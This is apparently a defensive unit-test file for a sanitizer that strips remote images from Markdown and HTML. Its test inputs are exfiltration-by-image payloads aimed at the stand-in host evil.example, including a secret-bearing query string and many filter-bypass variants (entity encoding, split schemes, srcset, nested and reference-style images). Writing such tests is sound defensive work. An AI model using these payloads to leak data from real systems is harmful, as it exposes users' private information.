import { expect, test } from 'vitest';
import { usualRules } from '../../limits/result-rules.js';
import { Inspection } from './inspection.js';
import { hasRemoteImage, withoutRemoteImages } from './remote-images.js';

const removed = '[image removed]';

test.each([
  ['![logo](https://evil.example/p.png?d=secret)', removed],
  ['![a [b] c](https://evil.example/p.png) after', `${removed} after`],
  [`![${'long '.repeat(200)}](https://evil.example/p.png)`, removed],
  ['![a](https://evil.example/p(1).png)', `${removed}//evil.example/p(1).png)`],
  ['![a](                 https://evil.example/p.png "title")', removed],
  ['![a](<https://evil.example/a b.png>)', removed],
  ['![a](/\\evil.example/p.png)', removed],
  ['![a](https\\://evil.example/p.png)', removed],
  ['![a](https&colon;//evil.example/p.png)', removed],
  ['![a ![b](//evil.example/1) c](//evil.example/2) after', `${removed} after`],
  ['![a ![b](//evil.example/1) c](local.png)', `![a ${removed} c](local.png)`],
  ['![a][Pixel  1]\n\n[pixel 1]: https://evil.example/p', `${removed}\n\n[pixel 1]: https://evil.example/p`],
  ['![pixel][]\n\n[pixel]: <//evil.example/p>', `${removed}\n\n[pixel]: <//evil.example/p>`],
  ['> ![pixel]\n>\n> [pixel]: //evil.example/p', `> ${removed}\n>\n> [pixel]: //evil.example/p`],
  ['<img src="  https://evil.example/p">', removed],
  ['<img src="ht\ntps://evil.example/p">', removed],
  ['<img src="&#104;ttps://evil.example/p">', removed],
  ['<img src=x.png srcset="x.png 1x, //evil.example/p 2x">', removed],
  ['<image src=//evil.example/p>', removed],
  ['<video poster="https://evil.example/p"></video>', `${removed}</video>`],
  ['<picture><source srcset=//evil.example/p></picture>', `<picture>${removed}</picture>`],
  ['<img x![](//a b="1)><img src=//evil.example/p>">', `<img x${removed}>${removed}">`],
  [
    '![x]<img src=//a>\n\n[image removed]: //evil.example/p',
    `${removed}\n\n[image removed]: //evil.example/p`,
  ],
])('is found and taken out: %s', (text, after) => {
  expect(hasRemoteImage(text)).toBe(true);
  expect(withoutRemoteImages(text)).toBe(after);
  expect(hasRemoteImage(after)).toBe(false);
});

test.each([
  '![local](diagram.png) and [a link](https://acme.example/)',
  '[a link](https://acme.example/) ![local](a(1).png)',
  'Wow\\![not an image](https://acme.example/)',
  'let list = vec![0]; // see [docs][1]\n\n[1]: https://acme.example/',
  '![logo][logo] of [us][1]\n\n[logo]: logo.png\n[1]: https://acme.example/',
  '<img src="data:image/png;base64,iVBOR//8" alt="//">',
  '<img src="a/b.png" title="see https://acme.example">',
  '![never closed](https://acme.example/',
  '<a href="https://acme.example/">a link</a>',
])('is left as it is: %s', (text) => {
  expect(hasRemoteImage(text)).toBe(false);
  expect(withoutRemoteImages(text)).toBe(text);
});

test('a text that becomes an image again and again is not passed on', () => {
  const text = `${'!'.repeat(1_000)}<img src=//a>\n\n[image removed]: https://evil.example/p`;
  expect(withoutRemoteImages(text)).toBe(
    '[text removed: images from elsewhere could not be taken out of it]',
  );
});

test.each(['![](//', '![', '![[]](//a', '[a]: //', '![a][', '<img src="a" ', '<video ', '<img src=h&'])(
  'a text full of beginnings is searched once: %s',
  (part) => {
    const text = part.repeat(Math.ceil((1024 * 1024) / part.length)) + ')';
    expect(hasRemoteImage(withoutRemoteImages(text))).toBe(false);
  },
);

test('the mark of a value is no way to name an image', async () => {
  const inspection = new Inspection({ ...usualRules, redactPersonalData: true, removeHidden: true });
  const text = '!ann@acme.example\n\n[redacted: email]: https://evil.example/p';
  expect(await inspection.pass({ text: [text] })).toEqual({
    text: [`${removed}\n\n[redacted: email]: https://evil.example/p`],
  });
});
